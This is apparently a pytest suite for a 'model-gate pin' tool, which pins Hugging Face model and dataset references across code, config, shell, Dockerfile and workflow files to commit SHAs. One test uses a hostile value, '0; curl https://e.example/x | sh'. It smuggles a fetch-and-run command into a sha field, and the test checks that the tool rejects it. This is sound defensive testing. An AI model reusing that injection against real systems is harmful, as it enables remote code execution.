"""`model-gate pin` end to end: discovery → the Hub emulator (real huggingface_hub client) → rewritten files."""

from __future__ import annotations

import ast
import hashlib
import json
import textwrap
from pathlib import Path

import pytest
import yaml

from gate.cli import main
from gate.policy.fixes import PIN_HINT

TODAY = "2026-11-29"
TRAIN_PY = textwrap.dedent("""\
    import os

    import pandas as pd
    import timm
    from langchain_huggingface import HuggingFaceEmbeddings
    from transformers import AutoModel, AutoTokenizer

    MODEL = "org/m"
    model = AutoModel.from_pretrained(MODEL)
    tok = AutoTokenizer.from_pretrained("org/m", revision="v1")  # tokenizer
    emb = HuggingFaceEmbeddings(model_name="org/m", model_kwargs={"device": "cpu"})
    df = pd.read_parquet("hf://datasets/org/d/data/train.parquet")
    net = timm.create_model("hf-hub:org/m", pretrained=True)
    dyn = AutoModel.from_pretrained(os.environ["MODEL_ID"])
    """)
CONFIG_YAML = textwrap.dedent("""\
    # training config
    model_name_or_path: org/m   # the base model
    dataset_name: org/d
    """)
CONFIG_JSON = '{\n  "model_name_or_path": "org/m"\n}\n'
RUN_SH = textwrap.dedent("""\
    #!/bin/sh
    huggingface-cli download org/m --local-dir ./m
    vllm serve org/m --revision main
    wget https://huggingface.co/org/m/resolve/main/model.safetensors
    """)
WEIGHTS = b"weights-v2"


@pytest.fixture
def hub_repos(hub):
    model = hub.add_repo("org/m", files={"config.json": "{}", "model.safetensors": b"weights-v1"})
    model.tag("v1", model.head())
    model.commit({"model.safetensors": WEIGHTS}, message="v2")  # main moves past the tag
    hub.add_repo("org/d", kind="dataset", files={"data/train.parquet": b"rows"})
    return hub


@pytest.fixture
def repo(tmp_path):
    files = {"train.py": TRAIN_PY, "config.yaml": CONFIG_YAML, "cfg.json": CONFIG_JSON, "run.sh": RUN_SH}
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    return tmp_path


def note(followed: str) -> str:
    return f"# pinned from {followed} on {TODAY} by model-gate pin"


def pin(capsys, repo: Path, hub, *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(["pin", str(repo), "--hub-endpoint", hub.endpoint, "--today", TODAY, *args])
    out, err = capsys.readouterr()
    return code, out, err


def scan_json(capsys, repo: Path) -> dict:
    capsys.readouterr()
    main(["scan", str(repo), "--format", "json", "--fail-on", "never"])
    return json.loads(capsys.readouterr().out)


def test_dry_run_prints_a_diff_and_changes_nothing(capsys, repo, hub_repos):
    main_sha = hub_repos.repo("org/m").head()
    code, out, err = pin(capsys, repo, hub_repos)
    assert code == 0
    assert (repo / "train.py").read_text() == TRAIN_PY
    for name in ("train.py", "config.yaml", "cfg.json", "run.sh"):
        assert f"--- a/{name}\n+++ b/{name}\n" in out
    assert f'+model = AutoModel.from_pretrained(MODEL, revision="{main_sha}")  ' \
           f"# pinned from default branch on {TODAY} by model-gate pin\n" in out
    assert "would pin 11 reference(s) in 4 file(s); 1 not pinned (listed above); run again with --write" in err
    assert "train.py:14: model (dynamic): the id or revision is computed at run time" in err


def test_write_pins_every_form_files_still_parse_and_second_run_is_empty(capsys, repo, hub_repos):
    m = hub_repos.repo("org/m")
    main_sha, tag_sha = m.head(), m.repo.tags["v1"]
    data_sha = hub_repos.repo("org/d", kind="dataset").head()
    code, _, err = pin(capsys, repo, hub_repos, "--write")
    assert code == 0, err

    train = (repo / "train.py").read_text()
    ast.parse(train)
    assert 'MODEL = "org/m"\n' in train  # the constant is left alone; the call is pinned
    assert f'from_pretrained(MODEL, revision="{main_sha}")' in train
    assert f'from_pretrained("org/m", revision="{tag_sha}")  # tokenizer' in train  # a tag resolves to its commit
    assert f'model_kwargs={{"device": "cpu", "revision": "{main_sha}"}}' in train
    assert f'"hf://datasets/org/d@{data_sha}/data/train.parquet"' in train
    assert f'"hf-hub:org/m@{main_sha}"' in train
    assert 'from_pretrained(os.environ["MODEL_ID"])\n' in train  # dynamic: listed, not touched

    config = (repo / "config.yaml").read_text()
    assert config.startswith("# training config\nmodel_name_or_path: org/m   # the base model\n")
    assert yaml.safe_load(config) == {"model_name_or_path": "org/m", "model_revision": main_sha,
                                      "dataset_name": "org/d", "dataset_revision": data_sha}
    assert json.loads((repo / "cfg.json").read_text())["model_revision"] == main_sha
    assert (repo / "run.sh").read_text() == textwrap.dedent(f"""\
        #!/bin/sh
        huggingface-cli download org/m --revision {main_sha} --local-dir ./m  {note("default branch")}
        vllm serve org/m --revision {main_sha}  {note("main")}
        wget https://huggingface.co/org/m/resolve/{main_sha}/model.safetensors  {note("main")}
        """)

    code, out, err = pin(capsys, repo, hub_repos)
    assert (code, out) == (0, "")
    assert "nothing to change; 1 not pinned (listed above) (11 reference(s) already pinned)" in err

    report = scan_json(capsys, repo)
    unpinned = [f for f in report["findings"] if f["rule"] == "unpinned-revision"]
    assert unpinned == []


def test_one_hub_query_per_distinct_revision(capsys, repo, hub_repos, tmp_path_factory):
    from gate.verify.interface import RepoQuery, VerifyConfig
    from gate.verify.run import gather_hub

    hub_repos.reset_requests()
    gather_hub({RepoQuery("model", "org/m", None): ()},
               VerifyConfig(hub_endpoint=hub_repos.endpoint, cache_dir=str(tmp_path_factory.mktemp("cache"))))
    per_query = hub_repos.requests
    hub_repos.reset_requests()
    code, _, _ = pin(capsys, repo, hub_repos)
    assert code == 0
    # 11 references, 4 questions: (model org/m, default), (org/m, v1), (org/m, main), (dataset org/d, default),
    # after one reachability probe of the endpoint (issue 16: offline, one attempt per host, not per query).
    assert hub_repos.requests == 4 * per_query + 1


def test_failures_are_listed_not_rewritten_and_exit_3(capsys, tmp_path, hub_repos):
    source = textwrap.dedent("""\
        from transformers import AutoModel
        a = AutoModel.from_pretrained("org/m")
        b = AutoModel.from_pretrained("org/missing")
        c = AutoModel.from_pretrained("org/m", revision="no-such-branch")
        """)
    (tmp_path / "app.py").write_text(source)
    code, _, err = pin(capsys, tmp_path, hub_repos, "--write")
    assert code == 3
    lines = (tmp_path / "app.py").read_text().splitlines()
    assert "revision=" in lines[1]
    assert lines[2:] == source.splitlines()[2:]
    # One line per failure, naming the id once (issue 16 §1), in the words of the scan's finding (issue 13 §1).
    assert "app.py:3: model org/missing does not exist on" in err and "org/missing: model org/missing" not in err
    assert "(missing, private, or disabled), and HF_TOKEN is not set" in err  # anonymous 401 (§2.3)
    assert f"app.py:4: revision no-such-branch does not exist in model org/m on {hub_repos.endpoint}\n" in err


def test_hub_unreachable_fails_closed(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("MODEL_GATE_VERIFY_ATTEMPTS", "1")
    monkeypatch.setenv("HF_TOKEN", "hf_secret_token_never_printed")
    source = 'from transformers import AutoModel\nAutoModel.from_pretrained("org/m")\n'
    (tmp_path / "app.py").write_text(source)
    capsys.readouterr()
    code = main(["pin", str(tmp_path), "--hub-endpoint", "http://127.0.0.1:9", "--write"])
    out, err = capsys.readouterr()
    assert code == 3
    assert (tmp_path / "app.py").read_text() == source
    assert "app.py:2: model org/m: " in err and "cannot connect" in err
    assert "hf_secret_token_never_printed" not in out + err


def test_update_policy_with_locked_files(capsys, repo, hub_repos):
    from gate.policy.load import load_policy

    main_sha = hub_repos.repo("org/m").head()
    policy_file = repo / ".github" / "model-policy.yml"
    policy_file.parent.mkdir()
    policy_file.write_text("# our policy\nversion: 1\nmodels:\n  - id: org/m  # base\n    reason: base\n")
    code, out, err = pin(capsys, repo, hub_repos, "--write", "--update-policy", "--lock-files")
    assert code == 0, err
    assert "--- a/.github/model-policy.yml" in out
    text = policy_file.read_text()
    assert text.startswith("# our policy\nversion: 1\nmodels:\n  - id: org/m  # base\n")
    policy = load_policy(str(policy_file), str(repo))  # still a valid policy
    data = yaml.safe_load(text)
    entry = data["models"][0]
    assert set(entry["revisions"]) == {main_sha, hub_repos.repo("org/m").repo.tags["v1"]}
    # Locked only where both allowed commits agree: model.safetensors differs between v1 and main.
    assert "model.safetensors" not in entry.get("files", {})
    assert data["datasets"][0]["files"] == {
        "data/train.parquet": "sha256:" + hashlib.sha256(b"rows").hexdigest()}
    assert policy.source

    code, out, _ = pin(capsys, repo, hub_repos, "--update-policy", "--lock-files")
    assert (code, out) == (0, "")


def test_usage_errors_exit_2(capsys, tmp_path, hub):
    assert main(["pin", str(tmp_path), "--lock-files"]) == 2
    assert "--lock-files" in capsys.readouterr().err
    assert main(["pin", str(tmp_path / "missing")]) == 2


def test_nothing_to_pin_is_success(capsys, tmp_path, hub):
    (tmp_path / "README.txt").write_text("no models here\n")
    code, out, err = pin(capsys, tmp_path, hub)
    assert (code, out) == (0, "")
    assert "nothing to change" in err


def test_dry_run_diff_applies_with_git_apply_to_the_same_result_as_write(capsys, repo, hub_repos, tmp_path_factory):
    import shutil
    import subprocess

    twin = tmp_path_factory.mktemp("twin")
    shutil.copytree(repo, twin, dirs_exist_ok=True)
    code, diff, _ = pin(capsys, repo, hub_repos, "--update-policy")
    assert code == 0 and "--- /dev/null\n+++ b/.github/model-policy.yml" in diff
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    subprocess.run(["git", "apply", "-"], input=diff, text=True, cwd=repo, check=True)
    assert pin(capsys, twin, hub_repos, "--write", "--update-policy")[0] == 0
    for name in ("train.py", "config.yaml", "cfg.json", "run.sh", ".github/model-policy.yml"):
        assert (repo / name).read_text() == (twin / name).read_text(), name


def test_endpoint_from_hf_endpoint(capsys, tmp_path, hub_repos, monkeypatch):
    monkeypatch.setenv("HF_ENDPOINT", hub_repos.endpoint)
    (tmp_path / "app.py").write_text('from transformers import AutoModel\nAutoModel.from_pretrained("org/m")\n')
    capsys.readouterr()
    assert main(["pin", str(tmp_path), "--write"]) == 0
    assert f'revision="{hub_repos.repo("org/m").head()}"' in (tmp_path / "app.py").read_text()


def test_write_pins_revision_keywords_toml_dockerfile_and_workflow_end_to_end(capsys, tmp_path, hub_repos):
    """The forms the first fixture does not have, found by real discovery: vLLM's tokenizer_revision, diffusers'
    custom_pipeline/custom_revision (added and replaced), code_revision, TOML, Dockerfile and workflow steps."""
    m = hub_repos.repo("org/m")
    main_sha, tag_sha = m.head(), m.repo.tags["v1"]
    tok_sha = hub_repos.add_repo("org/tok", files={"tokenizer.json": "{}"}).head()
    pipe = hub_repos.add_repo("org/pipe", files={"pipeline.py": "# custom pipeline\n"})
    pipe.tag("v1", pipe.head())
    pipe_tag_sha = pipe.head()
    pipe_sha = pipe.commit({"pipeline.py": "# v2\n"}, message="v2")
    files = {
        "serve.py": textwrap.dedent("""\
            from diffusers import DiffusionPipeline
            from transformers import AutoModel
            from vllm import LLM

            llm = LLM("org/m", tokenizer="org/tok")
            p = DiffusionPipeline.from_pretrained("org/m", custom_pipeline="org/pipe")
            q = DiffusionPipeline.from_pretrained(
                "org/m",
                revision="v1",
                custom_pipeline="org/pipe",
                custom_revision="v1",  # reviewed
            )
            c = AutoModel.from_pretrained("org/m", revision="v1", trust_remote_code=True, code_revision="main")
            """),
        "pyproject.toml": '# tool config\n[tool.train]\nmodel_name_or_path = "org/m"  # base\nlr = 0.1\n',
        "Dockerfile": 'FROM python:3.11\nRUN ["huggingface-cli", "download", "org/m"]\nRUN hf download org/tok\n',
        ".github/workflows/ci.yml": textwrap.dedent("""\
            on: push
            jobs:
              fetch:
                runs-on: ubuntu-latest
                steps:
                  # weights for the smoke test
                  - run: huggingface-cli download org/m --revision main --local-dir m
            """),
    }
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)

    code, _, err = pin(capsys, tmp_path, hub_repos, "--write")
    assert code == 0, err
    assert "Not pinned" not in err
    serve = (tmp_path / "serve.py").read_text()
    ast.parse(serve)
    assert (f'llm = LLM("org/m", tokenizer="org/tok", revision="{main_sha}", tokenizer_revision="{tok_sha}")  '
            f"# pinned from default branch on {TODAY} by model-gate pin\n") in serve
    assert (f'p = DiffusionPipeline.from_pretrained("org/m", custom_pipeline="org/pipe", revision="{main_sha}", '
            f'custom_revision="{pipe_sha}")  # pinned from default branch on {TODAY} by model-gate pin\n') in serve
    assert textwrap.dedent(f"""\
        q = DiffusionPipeline.from_pretrained(
            "org/m",
            revision="{tag_sha}",
            custom_pipeline="org/pipe",
            custom_revision="{pipe_tag_sha}",  # reviewed
        )  # pinned from v1 on {TODAY} by model-gate pin
        """) in serve
    assert (f'c = AutoModel.from_pretrained("org/m", revision="{tag_sha}", trust_remote_code=True, '
            f'code_revision="{main_sha}")  # pinned from main and v1 on {TODAY} by model-gate pin\n') in serve
    toml = (tmp_path / "pyproject.toml").read_text()
    assert toml == (f'# tool config\n[tool.train]\nmodel_name_or_path = "org/m"  # base\n'
                    f'model_revision = "{main_sha}"  # pinned from default branch on {TODAY} by model-gate pin\n'
                    "lr = 0.1\n")
    assert (tmp_path / "Dockerfile").read_text() == (
        f'FROM python:3.11\nRUN ["huggingface-cli", "download", "org/m", "--revision", "{main_sha}"]\n'
        f"RUN hf download org/tok --revision {tok_sha}  # pinned from default branch on {TODAY} by model-gate pin\n")
    workflow = (tmp_path / ".github/workflows/ci.yml").read_text()
    assert workflow == files[".github/workflows/ci.yml"].replace(
        "--revision main --local-dir m", f"--revision {main_sha} --local-dir m  # pinned from main on {TODAY} by model-gate pin")
    assert yaml.safe_load(workflow)["jobs"]["fetch"]["steps"][0]["run"].startswith("huggingface-cli download")

    code, out, err = pin(capsys, tmp_path, hub_repos)
    assert (code, out) == (0, "")
    assert "nothing to change (" in err

    report = scan_json(capsys, tmp_path)
    assert {(r["id"], r["pinned"]) for r in report["references"]} == {
        ("org/m", True), ("org/tok", True), ("org/pipe", True)}
    assert [f for f in report["findings"] if f["rule"] == "unpinned-revision"] == []


def test_update_policy_refuses_a_policy_scan_would_reject_and_writes_nothing(capsys, repo, hub_repos):
    policy_text = "version: 1\nmodels:\n  - id: org/m\n    colour: red  # not a policy key\n"
    policy_file = repo / ".github" / "model-policy.yml"
    policy_file.parent.mkdir()
    policy_file.write_text(policy_text)
    code, out, err = pin(capsys, repo, hub_repos, "--write", "--update-policy")
    assert (code, out) == (2, "")
    assert ("the policy is not valid, so nothing was written (fix it, then run again): "
            ".github/model-policy.yml:4: models[0]: unknown key 'colour'") in err
    assert policy_file.read_text() == policy_text
    assert (repo / "train.py").read_text() == TRAIN_PY


def test_unpinnable_references_are_listed_with_the_reason_and_left_alone(capsys, tmp_path, hub_repos, monkeypatch):
    monkeypatch.setenv("GITHUB_API_URL", hub_repos.github_api)  # the scan asks GitHub about torch.hub's repository
    source = textwrap.dedent("""\
        import ollama
        import timm
        import torch
        from huggingface_hub import InferenceClient
        from llama_cpp import Llama
        from transformers import AutoModel, pipeline

        NAME = "hf-hub:org/m"
        client = InferenceClient("org/m")
        llm = Llama.from_pretrained("org/m", filename="*.gguf")
        r = ollama.chat(model="llama3")
        t = torch.hub.load("pytorch/vision", "resnet18")
        net = timm.create_model(NAME)
        kw = {"revision": "main"}
        x = AutoModel.from_pretrained("org/m", **kw)
        p = pipeline("text-classification", model="org/m", tokenizer="org/d")
        """)
    (tmp_path / "app.py").write_text(source)
    (tmp_path / "get.sh").write_text("git clone https://huggingface.co/org/m\n")
    main_sha = hub_repos.repo("org/m").head()
    code, out, err = pin(capsys, tmp_path, hub_repos, "--write")
    assert (code, out) == (0, "")
    assert (tmp_path / "app.py").read_text() == source
    listed = err.split("Not pinned (", 1)[1].splitlines()[1:]
    assert listed[:-1] == [
        "  app.py:9: model org/m: huggingface_hub.InferenceClient cannot take a revision",
        "  app.py:10: model org/m: llama_cpp.Llama.from_pretrained cannot take a revision",
        "  app.py:11: model llama3: not a Hugging Face Hub reference (source: ollama); pin it with that registry's "
        "own version or commit",
        "  app.py:12: model pytorch/vision: not a Hugging Face Hub reference (source: torchhub); pin it with that "
        "registry's own version or commit",
        "  app.py:13: model org/m: the id string is not written at this call (a constant, variable or f-string); "
        "pin it where the string is written",
        "  app.py:15: model org/m@main: the call passes **kwargs, which may already set revision; add the pin there "
        "by hand",
        "  app.py:16: one revision at this call serves org/d and org/m, so no single commit pins them all: load each "
        "repository in its own call with its own revision, then pin each (`model-gate pin` does that once they are "
        "apart)",
        "  app.py:16: one revision at this call serves org/m and org/d, so no single commit pins them all: load each "
        "repository in its own call with its own revision, then pin each (`model-gate pin` does that once they are "
        "apart)",
        "  get.sh:1: model org/m: shell:git clone cannot take the commit on its command line; pin it by hand "
        f"(git checkout {main_sha})",
    ]
    assert listed[-1] == "model-gate pin: nothing to change; 9 not pinned (listed above) (0 reference(s) already pinned)."


def test_a_hub_answer_that_is_not_a_commit_sha_is_never_written(capsys, repo, hub):
    """Issue 13 §2.11: a hostile endpoint's `sha` is a failure to resolve, not text for run.sh."""
    hub.add_repo("org/m", files={"config.json": "{}"}, served_sha="0; curl https://e.example/x | sh")
    hub.add_repo("org/d", kind="dataset", files={"data/train.parquet": b"rows"})
    code, _, err = pin(capsys, repo, hub, "--write")
    assert code == 3
    assert (repo / "run.sh").read_text() == RUN_SH  # only org/m there: nothing written
    assert all("curl" not in (repo / name).read_text() for name in ("train.py", "config.yaml", "cfg.json"))
    assert "not a 40-character lowercase hex commit sha" in err


# The scan's fix and `model-gate pin` give one answer to "can pin act here" (issue 16 §3): one function decides
# both (gate/discover/pinnability.py), from what discovery recorded about the call.
AGREE_PY = textwrap.dedent("""\
    import argparse

    from datasets import load_dataset
    from transformers import AutoModel

    MODEL = "org/m"
    parser = argparse.ArgumentParser()
    parser.add_argument("--dataset", default="org/d")
    args = parser.parse_args()
    ds = load_dataset(args.dataset)
    model = AutoModel.from_pretrained(MODEL)
    tok = AutoModel.from_pretrained("org/m")
    """)
CHOSEN_ELSEWHERE = ("the id at this call comes from a parameter, attribute or environment value, which can differ "
                    "at run time; pin it where the id is chosen")


def _fixes(report: dict) -> dict[int, str]:
    return {f["line"]: f["remediation"] for f in report["findings"] if f["rule"] == "unpinned-revision"}


def test_scan_offers_pin_exactly_where_pin_acts(capsys, tmp_path, hub_repos):
    (tmp_path / "app.py").write_text(AGREE_PY)
    fixes = _fixes(scan_json(capsys, tmp_path))
    assert sorted(fixes) == [10, 11, 12]
    # argparse default: the id is chosen on line 8, not at the call; the scan must not promise pin there
    assert fixes[10] == f'add revision="<40-hex sha>" to the call; `model-gate pin` cannot do it here: {CHOSEN_ELSEWHERE}'
    # a same-file module constant and a literal: pin acts, and the scan says so
    assert fixes[11] == f'add revision="<40-hex sha>" to the call. {PIN_HINT}'
    assert fixes[12] == f'add revision="<40-hex sha>" to the call. {PIN_HINT}'

    code, _, err = pin(capsys, tmp_path, hub_repos, "--write")
    assert code == 0, err
    sha = hub_repos.repo("org/m").head()
    text = (tmp_path / "app.py").read_text()
    assert "ds = load_dataset(args.dataset)\n" in text  # refused, with the scan's reason
    assert f"  app.py:10: dataset org/d: {CHOSEN_ELSEWHERE}\n" in err
    comment = f"  # pinned from default branch on {TODAY} by model-gate pin\n"
    assert f'model = AutoModel.from_pretrained(MODEL, revision="{sha}"){comment}' in text
    assert f'tok = AutoModel.from_pretrained("org/m", revision="{sha}"){comment}' in text


def test_a_parameter_id_is_refused_by_both(capsys, tmp_path, hub_repos):
    (tmp_path / "app.py").write_text(textwrap.dedent("""\
        from transformers import AutoModel


        def load(name="org/m"):
            return AutoModel.from_pretrained(name)
        """))
    fixes = _fixes(scan_json(capsys, tmp_path))
    assert list(fixes) == [5] and "`model-gate pin` cannot do it here" in fixes[5] and PIN_HINT not in fixes[5]
    code, _, err = pin(capsys, tmp_path, hub_repos, "--write")
    assert code == 0 and "app.py:5: model org/m: the id at this call comes from" in err


def test_a_call_passing_kwargs_is_refused_by_both(capsys, tmp_path, hub_repos):
    (tmp_path / "app.py").write_text(textwrap.dedent("""\
        from transformers import AutoModel


        def load(**opts):
            return AutoModel.from_pretrained("org/m", **opts)
        """))
    reason = "the call passes **kwargs, which may already set revision; add the pin there by hand"
    fixes = _fixes(scan_json(capsys, tmp_path))
    assert fixes == {5: f'add revision="<40-hex sha>" to the call; `model-gate pin` cannot do it here: {reason}'}
    code, _, err = pin(capsys, tmp_path, hub_repos, "--write")
    assert code == 0 and f"app.py:5: model org/m: {reason}\n" in err
